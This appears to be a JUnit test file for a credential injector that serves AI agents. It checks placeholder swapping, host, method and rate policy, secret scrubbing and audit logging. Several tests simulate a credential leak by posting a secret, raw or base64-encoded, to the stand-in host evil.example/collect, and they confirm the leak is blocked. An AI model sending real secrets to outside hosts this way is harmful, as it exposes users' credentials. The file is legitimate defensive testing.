package dev.veil.inject;

import dev.veil.testing.TestEvidence;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.veil.Engine;
import dev.veil.audit.AuditEvent;
import dev.veil.audit.AuditLog;
import dev.veil.audit.DeferredAuditLog;
import dev.veil.audit.AuditQuery;
import dev.veil.audit.AuditVerifier;
import dev.veil.policy.Approvals;
import dev.veil.policy.PolicyEngine;
import dev.veil.rules.HttpGrant.Part;
import dev.veil.rules.Rules;
import dev.veil.rules.RulesLoader;
import dev.veil.scrub.Encodings;
import dev.veil.scrub.Scrubber;
import dev.veil.store.KdfParams;
import dev.veil.store.SecretCache;
import dev.veil.store.Vault;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The injector with everything real: rules parsed from YAML, an encrypted file vault, policy, audit log, scrubber. */
class InjectorTest {
    private static final String AGENT = "research-agent";
    // '+', '/' and '=' so that percent-encoding and base64 forms differ from the raw value.
    private static final String OPENAI = TestEvidence.secret("sk+live/openai=", 24);
    private static final String GIT = TestEvidence.secret("git-token-", 24);
    private static final String KEY = TestEvidence.secret("vault-key-", 24);
    private static final List<String> SECRETS = List.of(OPENAI, GIT, KEY);

    @TempDir static Path dir;
    private static Path vault;
    private static Path keyFile;

    private final List<AutoCloseable> open = new ArrayList<>();
    private Path auditFile;
    private Scrubber scrubber;

    @BeforeAll
    static void createVault() throws Exception {
        vault = dir.resolve("vault");
        keyFile = dir.resolve("key");
        Files.writeString(keyFile, KEY);
        Files.setPosixFilePermissions(keyFile, java.nio.file.attribute.PosixFilePermissions.fromString("rw-------"));
        Vault.init(vault, KEY.toCharArray(), new KdfParams(64, 1, 1));
        try (Vault v = Vault.open(vault, KEY.toCharArray())) {
            v.put("openai", OPENAI.toCharArray());
            v.put("git", GIT.toCharArray());
        }
    }

    @AfterEach
    void closeAndCheckAudit() throws Exception {
        for (AutoCloseable c : open) c.close();
        if (auditFile != null && Files.exists(auditFile)) {
            AuditVerifier.Result r = AuditVerifier.verify(auditFile);
            assertTrue(r.ok(), r.message());
            assertNoSecretIn(Files.readString(auditFile), "audit log");
        }
    }

    private String rulesYaml(boolean blockRealSecrets) {
        return "version: 1\n"
                + "stores:\n"
                + "  local: {type: file, path: '" + vault + "', key: 'file:" + keyFile + "'}\n"
                + "credentials:\n"
                + "  openai:\n"
                + "    source: local/openai\n"
                + "    agents: [" + AGENT + "]\n"
                + "    allow:\n"
                + "      - url: https://api.openai.com/v1/**\n"
                + "        methods: [GET, POST]\n"
                + "        in: [header, query]\n"
                + "    rate: 5/min\n"
                + "  git:\n"
                + "    source: local/git\n"
                + "    allow:\n"
                + "      - url: https://git.example.com/**\n"
                + "  missing:\n"
                + "    source: local/not-in-the-vault\n"
                + "    allow:\n"
                + "      - url: https://api.openai.com/**\n"
                + "egress:\n"
                + "  block-real-secrets: " + blockRealSecrets + "\n"
                + "audit:\n"
                + "  path: '" + TestEvidence.auditFile("injector") + "'\n";
    }

    private Injector injector(String agent) throws Exception {
        return injector(agent, true);
    }

    private Injector injector(String agent, boolean blockRealSecrets) throws Exception {
        Rules rules = RulesLoader.parse("rules.yaml", rulesYaml(blockRealSecrets), Map.of());
        scrubber = new Scrubber(rules.scrub());
        auditFile = rules.auditPath();
        AuditLog audit = AuditLog.open(auditFile, new AuditLog.Options().scrubber(scrubber::scrub));
        SecretCache cache = SecretCache.forRules(rules);
        open.add(audit);
        open.add(cache);
        return new Injector(rules, agent, new PolicyEngine(rules, Clock.systemUTC(), Approvals.NONE), cache, scrubber, DeferredAuditLog.of(audit));
    }

    private List<AuditEvent> audit() throws Exception {
        return new AuditQuery().run(auditFile);
    }

    private static void assertNoSecretIn(String text, String where) {
        for (String s : SECRETS) {
            for (String form : Encodings.all(s)) assertFalse(text.contains(form), "a secret (" + form.length() + " chars) is in the " + where);
        }
    }

    /** Denied, with a message naming credential, destination, agent and reason, and a matching deny record. */
    private void assertDenied(Injector inj, String method, String url, Part part, String text,
                              String credential, String agent, String reason) throws Exception {
        VeilDeniedException e = assertThrows(VeilDeniedException.class, () -> inj.http(method, URI.create(url), part, text));
        String m = e.getMessage();
        String destination = url.replaceFirst("\\?.*", "");
        assertTrue(m.contains(credential), m);
        assertTrue(m.contains(method + " " + destination), m);
        assertTrue(m.contains("(agent " + agent + ")"), m);
        assertTrue(m.contains(reason), m);
        assertNoSecretIn(m, "message");
        AuditEvent last = audit().get(audit().size() - 1);
        assertEquals("deny", last.event());
        assertEquals(agent, last.agent());
        assertEquals(destination, last.destination());
        assertTrue(last.reason().contains(reason), last.toString());
    }

    @Test
    void aPlaceholderInAnAllowedHeaderIsSwappedAndAudited() throws Exception {
        Injector inj = injector(AGENT);
        String out = inj.http("POST", URI.create("https://api.openai.com/v1/chat/completions"), Part.HEADER, "Bearer veil:openai");
        assertEquals("Bearer " + OPENAI, out);
        List<AuditEvent> events = audit();
        assertEquals(1, events.size());
        AuditEvent e = events.get(0);
        assertEquals("inject", e.event());
        assertEquals("openai", e.credential());
        assertEquals(AGENT, e.agent());
        assertEquals("POST", e.method());
        assertEquals("https://api.openai.com/v1/chat/completions", e.destination());
        assertEquals("rules.yaml:9:9", e.rule());
        // Registration is immediate: the value is scrubbed from the next thing written, in any encoding.
        assertEquals("key veil:openai", scrubber.scrub("key " + OPENAI));
        assertEquals("veil:openai", scrubber.scrub(Base64.getEncoder().encodeToString(OPENAI.getBytes(StandardCharsets.UTF_8))));
    }

    @Test
    void textWithoutPlaceholdersIsReturnedAsItIs() throws Exception {
        Injector inj = injector(AGENT);
        String text = "Bearer not-a-placeholder";
        assertSame(text, inj.http("GET", URI.create("https://api.openai.com/v1/models"), Part.HEADER, text));
        assertTrue(audit().isEmpty());
    }

    @Test
    void onlyTextWithAPlaceholderOrAKnownRealValueInvolvesTheInjector() throws Exception {
        Injector inj = injector(AGENT);
        assertFalse(inj.involves("application/json"));
        assertFalse(inj.involves(""));
        assertTrue(inj.involves("Bearer veil:openai"));
        assertTrue(inj.involves("Basic " + b64("alice:veil:git")));
        assertFalse(inj.involves("Bearer " + OPENAI), "not yet known");
        inj.http("GET", URI.create("https://api.openai.com/v1/models"), Part.HEADER, "Bearer veil:openai");
        assertTrue(inj.involves("Bearer " + OPENAI), "known after injection, so egress is checked");
        Injector permissive = injector(AGENT, false);
        permissive.http("GET", URI.create("https://api.openai.com/v1/models"), Part.HEADER, "Bearer veil:openai");
        assertFalse(permissive.involves("Bearer " + OPENAI), "no egress check when real values may leave");
    }

    @Test
    void everyKindOfMisuseIsDeniedAndAudited() throws Exception {
        Injector inj = injector(AGENT);
        assertDenied(inj, "POST", "https://evil.example/v1/chat", Part.HEADER, "Bearer veil:openai",
                "openai", AGENT, "host not allowed");
        assertDenied(inj, "DELETE", "https://api.openai.com/v1/files/1", Part.HEADER, "Bearer veil:openai",
                "openai", AGENT, "method DELETE not allowed");
        assertDenied(inj, "POST", "https://api.openai.com/v1/chat", Part.BODY, "{\"key\":\"veil:openai\"}",
                "openai", AGENT, "placeholder in body not allowed");
        assertDenied(inj, "GET", "https://api.openai.com/v1/models", Part.HEADER, "Bearer veil:nope",
                "veil:nope", AGENT, "unknown placeholder");
        assertDenied(injector("other-agent"), "GET", "https://api.openai.com/v1/models", Part.HEADER, "Bearer veil:openai",
                "openai", "other-agent", "agent not allowed");
    }

    @Test
    void overTheRateIsDenied() throws Exception {
        Injector inj = injector(AGENT);
        URI uri = URI.create("https://api.openai.com/v1/models");
        for (int i = 0; i < 5; i++) assertEquals("Bearer " + OPENAI, inj.http("GET", uri, Part.HEADER, "Bearer veil:openai"));
        assertDenied(inj, "GET", uri.toString(), Part.HEADER, "Bearer veil:openai", "openai", AGENT, "over the rate (5/min)");
        assertEquals(List.of("inject", "inject", "inject", "inject", "inject", "deny"),
                audit().stream().map(AuditEvent::event).collect(Collectors.toList()));
    }

    @Test
    void basicAuthAndAPercentEncodedQueryPlaceholderAreWrittenTheWayTheyCame() throws Exception {
        Injector inj = injector(AGENT);
        String basic = "Basic " + b64("alice:veil:git");
        assertEquals("Basic " + b64("alice:" + GIT), inj.http("GET", URI.create("https://git.example.com/repo"), Part.HEADER, basic));

        String query = inj.http("GET", URI.create("https://api.openai.com/v1/models?key=veil%3Aopenai&x=1"), Part.QUERY,
                "key=veil%3Aopenai&x=1");
        assertEquals("key=" + Encodings.percent(OPENAI) + "&x=1", query);
        assertTrue(query.contains("sk%2Blive%2Fopenai%3D"), query);
        assertEquals(List.of("inject", "inject"), audit().stream().map(AuditEvent::event).collect(Collectors.toList()));
    }

    @Test
    void aStoreFailureDeniesAndIsAuditedAsStoreError() throws Exception {
        Injector inj = injector(AGENT);
        VeilDeniedException e = assertThrows(VeilDeniedException.class,
                () -> inj.http("GET", URI.create("https://api.openai.com/v1/models"), Part.HEADER, "Bearer veil:missing"));
        assertTrue(e.getMessage().contains("credential 'missing' is unavailable for GET https://api.openai.com/v1/models (agent "
                + AGENT + ")"), e.getMessage());
        assertNoSecretIn(e.getMessage(), "message");
        AuditEvent last = audit().get(audit().size() - 1);
        assertEquals("store-error", last.event());
        assertEquals("missing", last.credential());
        assertEquals("local/not-in-the-vault", last.rule());
    }

    @Test
    void aRealValueLeavingForAnotherHostIsBlockedWhenConfigured() throws Exception {
        Injector inj = injector(AGENT, true);
        inj.http("GET", URI.create("https://api.openai.com/v1/models"), Part.HEADER, "Bearer veil:openai"); // learns the value
        String leak = "{\"prompt\":\"my key is " + OPENAI + "\"}";
        VeilDeniedException e = assertThrows(VeilDeniedException.class,
                () -> inj.http("POST", URI.create("https://evil.example/collect"), Part.BODY, leak));
        assertTrue(e.getMessage().contains("real value of credential 'openai'"), e.getMessage());
        assertTrue(e.getMessage().contains("POST https://evil.example/collect (agent " + AGENT + ")"), e.getMessage());
        assertNoSecretIn(e.getMessage(), "message");
        assertEquals("deny", audit().get(audit().size() - 1).event());
        // Base64 of the value is the same value leaving.
        assertThrows(VeilDeniedException.class, () -> inj.http("POST", URI.create("https://evil.example/collect"), Part.BODY,
                "data=" + b64(OPENAI)));
        // Where the credential may go, its real value may go too.
        assertSame(leak, inj.http("POST", URI.create("https://api.openai.com/v1/chat"), Part.BODY, leak));
    }

    @Test
    void aRealValueBesideAnAllowedPlaceholderIsStillBlocked() throws Exception {
        Injector inj = injector(AGENT, true);
        inj.http("GET", URI.create("https://git.example.com/repo"), Part.HEADER, "Bearer veil:git"); // learns the git value
        VeilDeniedException e = assertThrows(VeilDeniedException.class, () -> inj.http("GET",
                URI.create("https://api.openai.com/v1/models"), Part.QUERY, "key=veil:openai&stolen=" + GIT));
        assertTrue(e.getMessage().contains("real value of credential 'git'"), e.getMessage());
        assertNoSecretIn(e.getMessage(), "message");
        assertEquals(List.of("inject", "deny"), audit().stream().map(AuditEvent::event).collect(Collectors.toList()));
    }

    @Test
    void aRealValueLeavingIsAllowedWhenBlockingIsOff() throws Exception {
        Injector inj = injector(AGENT, false);
        inj.http("GET", URI.create("https://api.openai.com/v1/models"), Part.HEADER, "Bearer veil:openai");
        String leak = "my key is " + OPENAI;
        assertSame(leak, inj.http("POST", URI.create("https://evil.example/collect"), Part.BODY, leak));
        assertEquals(List.of("inject"), audit().stream().map(AuditEvent::event).collect(Collectors.toList()));
    }

    @Test
    void theEngineInjectsAndScrubsWhatItInjected() throws Exception {
        Path rules = dir.resolve("engine-rules.yaml");
        Files.writeString(rules, rulesYaml(true));
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        Engine engine = Engine.start("rules=" + rules + ",agent=" + AGENT, new PrintStream(err, true, StandardCharsets.UTF_8));
        auditFile = engine.rules().auditPath();
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("rules " + rules + " loaded"), err.toString(StandardCharsets.UTF_8));
        String out = engine.http("GET", "https://api.openai.com/v1/models", "header", "Bearer veil:openai");
        assertEquals("Bearer " + OPENAI, out);
        assertEquals("error calling with Bearer veil:openai", engine.scrub("error calling with " + out));
        assertThrows(VeilDeniedException.class, () -> engine.http("GET", "https://evil.example/", "header", "Bearer veil:openai"));
        // The engine writes its records behind the calls (audit.sync defaults to 1s), within a few milliseconds.
        for (long end = System.nanoTime() + 10_000_000_000L; audit().size() < 2 && System.nanoTime() < end; ) Thread.sleep(5);
        assertEquals(List.of("inject", "deny"), audit().stream().map(AuditEvent::event).collect(Collectors.toList()));
        assertNoSecretIn(err.toString(StandardCharsets.UTF_8), "engine's stderr");
    }

    private static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }
}
